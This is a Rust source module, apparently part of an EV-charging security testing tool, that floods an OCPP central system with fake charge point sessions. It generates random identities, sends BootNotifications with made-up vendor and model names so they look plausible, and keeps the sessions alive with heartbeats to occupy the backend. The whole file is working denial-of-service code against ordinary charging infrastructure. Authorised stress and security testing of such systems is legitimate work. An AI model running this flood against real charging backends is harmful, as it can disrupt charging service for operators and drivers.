//! Session flooding
//!
//! Opens many concurrent charge point sessions against one central system,
//! announces each with a plausible boot, then keeps them all alive with
//! periodic heartbeats for a configured window. Sessions that stop
//! responding are pruned rather than retried; the point is sustained
//! occupancy, not delivery guarantees.

use std::future::Future;
use std::time::Duration;

use rand::seq::SliceRandom;
use tokio::time::{sleep, Instant};
use tracing::{info, warn};
use uuid::Uuid;

use voltprobe_ocpp::{
    Call, Dispatcher, MessageStream, OcppError, Session, SessionConfig, SessionHandle,
};

const VENDORS: &[&str] = &["The Mobility House", "EVTech", "ChargeFast", "GreenCharge"];
const MODELS: &[&str] = &["Optimus", "Eagle", "Falcon", "Hawk"];

#[derive(Debug, Clone)]
pub struct FloodConfig {
    /// Upper bound on concurrently open sessions
    pub count: usize,
    /// Connection attempts per second; 0 means as fast as possible
    pub rate_per_second: u32,
    /// How long to hold the opened sessions before tearing down
    pub keepalive_window: Duration,
    /// Pause between heartbeat rounds
    pub keepalive_interval: Duration,
    pub call_timeout: Duration,
}

impl Default for FloodConfig {
    fn default() -> Self {
        Self {
            count: 50,
            rate_per_second: 20,
            keepalive_window: Duration::from_secs(60),
            keepalive_interval: Duration::from_secs(5),
            call_timeout: Duration::from_secs(10),
        }
    }
}

/// How one flooded session ended
#[derive(Debug)]
pub enum SessionOutcome {
    /// Never got past connect or boot
    ConnectFailed(String),
    /// Opened, then stopped answering keepalives
    Dropped { keepalives: u64, reason: String },
    /// Still answering when the window closed
    Survived { keepalives: u64 },
}

#[derive(Debug, Default)]
pub struct FloodReport {
    pub attempted: usize,
    pub opened: usize,
    pub survivors: usize,
    pub peak_live: usize,
    pub keepalives: u64,
    pub outcomes: Vec<(String, SessionOutcome)>,
}

struct LiveSession {
    identity: String,
    handle: SessionHandle,
    task: tokio::task::JoinHandle<Result<(), OcppError>>,
    keepalives: u64,
}

fn flood_identity() -> String {
    let id = Uuid::new_v4().simple().to_string();
    format!("CP_{}", &id[..8])
}

fn random_boot() -> Result<Call, OcppError> {
    let (vendor, model) = {
        let mut rng = rand::thread_rng();
        (
            VENDORS.choose(&mut rng).copied().unwrap_or(VENDORS[0]),
            MODELS.choose(&mut rng).copied().unwrap_or(MODELS[0]),
        )
    };
    Call::boot_notification(vendor, model)
}

/// Run one flood: open up to `config.count` sessions through `connect`,
/// hold them with heartbeats for the window, then abort the survivors.
pub async fn flood<S, C, Fut>(config: &FloodConfig, connect: C) -> FloodReport
where
    S: MessageStream + 'static,
    C: Fn(String) -> Fut,
    Fut: Future<Output = Result<S, OcppError>>,
{
    let mut report = FloodReport::default();
    let mut live: Vec<LiveSession> = Vec::with_capacity(config.count);

    info!(count = config.count, rate = config.rate_per_second, "flood starting");

    for _ in 0..config.count {
        report.attempted += 1;
        let identity = flood_identity();

        if config.rate_per_second > 0 {
            sleep(Duration::from_secs_f64(
                1.0 / f64::from(config.rate_per_second),
            ))
            .await;
        }

        let stream = match connect(identity.clone()).await {
            Ok(stream) => stream,
            Err(e) => {
                warn!(%identity, error = %e, "connect failed");
                report
                    .outcomes
                    .push((identity, SessionOutcome::ConnectFailed(e.to_string())));
                continue;
            }
        };

        let session_config =
            SessionConfig::new(&identity).with_call_timeout(config.call_timeout);
        let (session, handle) =
            Session::new(&session_config, stream, Dispatcher::charge_point());
        let task = tokio::spawn(session.run());

        let announced = match random_boot() {
            Ok(boot) => handle.call(&boot.action, boot.payload).await,
            Err(e) => Err(e),
        };
        if let Err(e) = announced {
            warn!(%identity, error = %e, "boot failed");
            task.abort();
            report
                .outcomes
                .push((identity, SessionOutcome::ConnectFailed(e.to_string())));
            continue;
        }

        report.opened += 1;
        live.push(LiveSession {
            identity,
            handle,
            task,
            keepalives: 0,
        });
        report.peak_live = report.peak_live.max(live.len());
    }

    info!(opened = report.opened, "flood established, holding");

    let window_end = Instant::now() + config.keepalive_window;
    while Instant::now() < window_end && !live.is_empty() {
        sleep(config.keepalive_interval).await;

        let mut still_live = Vec::with_capacity(live.len());
        for mut session in live {
            match session.handle.call("Heartbeat", serde_json::json!({})).await {
                Ok(_) => {
                    session.keepalives += 1;
                    report.keepalives += 1;
                    still_live.push(session);
                }
                Err(e) => {
                    warn!(identity = %session.identity, error = %e, "pruning dead session");
                    session.task.abort();
                    report.outcomes.push((
                        session.identity,
                        SessionOutcome::Dropped {
                            keepalives: session.keepalives,
                            reason: e.to_string(),
                        },
                    ));
                }
            }
        }
        live = still_live;
    }

    report.survivors = live.len();
    for session in live {
        session.task.abort();
        report.outcomes.push((
            session.identity,
            SessionOutcome::Survived {
                keepalives: session.keepalives,
            },
        ));
    }

    info!(
        attempted = report.attempted,
        opened = report.opened,
        survivors = report.survivors,
        peak_live = report.peak_live,
        keepalives = report.keepalives,
        "flood finished"
    );
    report
}
